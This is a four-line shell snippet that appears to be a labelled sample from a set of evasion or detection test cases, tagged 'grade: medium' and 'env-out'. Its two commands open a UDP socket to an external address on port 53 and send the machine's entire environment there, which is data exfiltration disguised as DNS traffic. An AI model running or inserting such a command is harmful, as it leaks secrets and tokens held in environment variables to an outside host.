# evasion: the environment written to /dev/udp
# grade: medium; does: env-out
exec 5<>/dev/udp/203.0.113.5/53
env >&5
